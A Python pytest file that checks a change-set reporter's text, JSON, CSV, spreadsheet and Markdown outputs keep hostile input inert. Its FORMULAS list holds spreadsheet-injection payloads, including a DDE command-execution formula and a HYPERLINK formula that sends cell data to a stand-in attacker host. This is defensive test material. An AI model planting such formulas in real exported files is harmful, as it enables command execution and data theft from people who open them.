"""What stands in the data stays text: in a terminal, in a spreadsheet, in Markdown. For HTML see test_render_html."""

from __future__ import annotations

import csv
import html
import io
import json
import re

import pytest
from hypothesis import given, settings
from markdown_it import MarkdownIt

from aistatecraft.comparison.changes import Change, ChangeSet
from aistatecraft.comparison.reporters import ChangeFormat, RenderOptions, render
from aistatecraft.comparison.reporters.csv import COLUMNS, disarmed, rearmed
from aistatecraft.package.escape import printable
from tests.comparison.sample import HOSTILE, TEXT, any_change_set, made, one, row

PLACES = ["table", "key", "field", "old", "new", "note", "title", "name", "renamed", "property", "package"]


def hostile(place: str, text: str) -> ChangeSet:
    """A change set with `text` in one place."""
    if place == "title":
        return made(row("added", "people", "row-added", id="ada", title_en=text))
    if place == "name":
        return made(Change("row", "added", "people", rule="row-added", values={text: text}))
    if place == "renamed":
        return made(
            Change("row", "renamed", "people", "ada", old="ada", new=text, rule="identifier-changed", parts=("ada",), new_parts=(text,))
        )
    if place == "property":
        return made(Change("package", "changed", property=text, old=text, new=text + "x", rule="package-metadata", note=text))
    if place == "package":
        changes = made(one())
        changes.old, changes.new, changes.old_version, changes.old_created = text, text, "", text
        return changes
    return made(one(**{place: text}))


# A terminal


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("text", HOSTILE)
def test_text_stays_on_its_line(place: str, text: str) -> None:
    found = render(ChangeFormat.text, hostile(place, text))
    assert found.count("\n") == 8
    assert found.replace("\n", "").isprintable()
    coloured = render(ChangeFormat.text, hostile(place, text), RenderOptions(colour=True))
    assert re.sub(r"\x1b\[[0-9;]*m", "", coloured).replace("\n", "").isprintable()


@pytest.mark.parametrize("text", HOSTILE)
def test_json_obeys_nothing_and_keeps_the_text(text: str) -> None:
    found = render(ChangeFormat.json, made(one(old=text, new=None)))
    assert found.replace("\n", "").isprintable()
    assert json.loads(found)["changes"][0]["old"] == text


def test_json_can_be_written_even_with_half_a_character() -> None:
    found = render(ChangeFormat.json, made(one(old="\ud83d", new="\ufffe")))
    assert found.encode("utf-8").isascii()
    assert json.loads(found)["changes"][0]["old"] == "\ud83d"


# A spreadsheet

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "a;=1+1",
    'a;"=1+1"',
    "a\t=1+1",
    "a|=1+1",
    "a\r\n=1+1",
    ";;=1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1)',
]
HELD = ['"=1+1', "'=1+1", "'\"=1+1", "a,=1+1;b"]
"""Texts that are none as they are, and must not become one by being read with another separator, or by losing an apostrophe."""
_ARMED = re.compile("[=+\\-@\t\r\n\0＝＋－＠]")


def opened(text: str, separator: str) -> list[str]:
    """The cells that a spreadsheet finds which takes `separator` for that of the list."""
    return [cell for cells in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator) for cell in cells]


@pytest.mark.parametrize("text", [*FORMULAS, *HELD])
def test_a_spreadsheet_finds_no_formula(text: str) -> None:
    changes = made(one(old=text, new="b"), one(key=text), row("added", text, "row-added", id=text))
    exact, safe = render(ChangeFormat.csv, changes), render(ChangeFormat.spreadsheet, changes)
    harm = any(_ARMED.match(cell) for separator in ",;\t|" for cell in opened(exact, separator))
    assert harm is (text in FORMULAS)
    assert [cell for separator in ",;\t|" for cell in opened(safe, separator) if _ARMED.match(cell)] == []
    assert safe.startswith('\ufeff"table","key",')
    told = list(csv.reader(io.StringIO(safe.removeprefix("\ufeff"), newline="")))
    assert [[rearmed(cell) for cell in cells] for cells in told] == list(csv.reader(io.StringIO(exact, newline="")))


@pytest.mark.parametrize("text", ["Ada", "a-b", "2021-04", "O'Neill", "'quoted'", "a, b; c", "x = y", "", "-", "--"])
def test_only_what_could_run_gets_an_apostrophe(text: str) -> None:
    assert disarmed(text) == ("'" + text if text.startswith("-") else text)


@settings(max_examples=500, deadline=None)
@given(TEXT)
def test_apostrophes_can_be_taken_off_again(text: str) -> None:
    assert rearmed(disarmed(text)) == text
    assert rearmed(disarmed(disarmed(text))) == disarmed(text)


@settings(max_examples=100, deadline=None)
@given(any_change_set())
def test_no_change_set_runs_in_a_spreadsheet(changes: ChangeSet) -> None:
    safe = render(ChangeFormat.spreadsheet, changes)
    assert [cell for separator in ",;\t|" for cell in opened(safe, separator) if _ARMED.match(cell)] == []
    rows = list(csv.reader(io.StringIO(safe.removeprefix("\ufeff"), newline="")))
    exact = list(csv.reader(io.StringIO(render(ChangeFormat.csv, changes), newline="")))
    assert [[rearmed(cell) for cell in cells] for cells in rows] == exact
    assert {len(cells) for cells in rows} == {len(COLUMNS)}


# Markdown

TAGS = {
    "h3",
    "h4",
    "p",
    "strong",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "details",
    "summary",
    "ul",
    "li",
    "code",
    "ins",
    "del",
    "blockquote",
    "pre",
}


def tags_of(page: str) -> list[str]:
    return re.findall(r"</?([a-z0-9]+)", re.sub("<!--.*?-->", "", page))


def outside_of_code(page: str) -> str:
    """The text of a page without what stands in the letters of code, where GitHub looks for nothing."""
    return html.unescape(re.sub(r"<[^>]*>", "", re.sub(r"<code>.*?</code>", "", page)))


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_shows_text_and_makes_nothing_of_it(place: str, text: str) -> None:
    source = render(ChangeFormat.markdown, hostile(place, text))
    page = MarkdownIt("gfm-like", {"linkify": False}).render(source)
    assert set(tags_of(page)) <= TAGS
    assert [tags_of(page).count(tag) for tag in ("li", "h3", "h4", "summary")] == [2, 2, 2, 0]
    for mark in ("@", "#", ":tada:", "GH-", "www.", "://", "javascript", "pwned", "evil"):
        assert mark not in outside_of_code(page)
    # Links are found while Markdown is read, in code written as a tag, too; a summary is HTML, and not read.
    assert not re.search(r"www\.|://|@\w", "\n".join(line for line in source.split("\n") if "<summary>" not in line))


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_keeps_the_text(text: str) -> None:
    page = MarkdownIt("gfm-like", {"linkify": False}).render(render(ChangeFormat.markdown, made(one(old=None, new=text))))
    assert printable(text) in html.unescape(re.sub(r"<[^>]*>", "", page))


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("text", HOSTILE)
def test_changelog_shows_text_and_makes_nothing_of_it(place: str, text: str) -> None:
    changes = hostile(place, text)
    source = render(ChangeFormat.changelog, changes)
    listed = changes.changes[0].kind in ("breaking", "correction")
    page = MarkdownIt("gfm-like", {"linkify": False}).render(source)
    assert set(tags_of(page)) <= {"h3", "h4", "ul", "li", "code", "p"}
    assert [tags_of(page).count(tag) for tag in ("li", "h3", "h4")] == [4 + 2 * listed, 2, 2 + 2 * listed]
    for mark in ("@", "#1", "://", "www.", "GH-", ":tada:"):
        assert mark not in outside_of_code(page)


@settings(max_examples=150, deadline=None)
@given(any_change_set())
def test_no_change_set_makes_markup(changes: ChangeSet) -> None:
    for form in (ChangeFormat.markdown, ChangeFormat.changelog):
        page = MarkdownIt("gfm-like", {"linkify": False}).render(render(form, changes))
        assert set(tags_of(page)) <= TAGS
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]", render(ChangeFormat.text, changes))
    assert tags_of(MarkdownIt("gfm-like", {"linkify": False}).render(render(ChangeFormat.markdown, changes))).count("li") == 2 * len(
        changes
    )
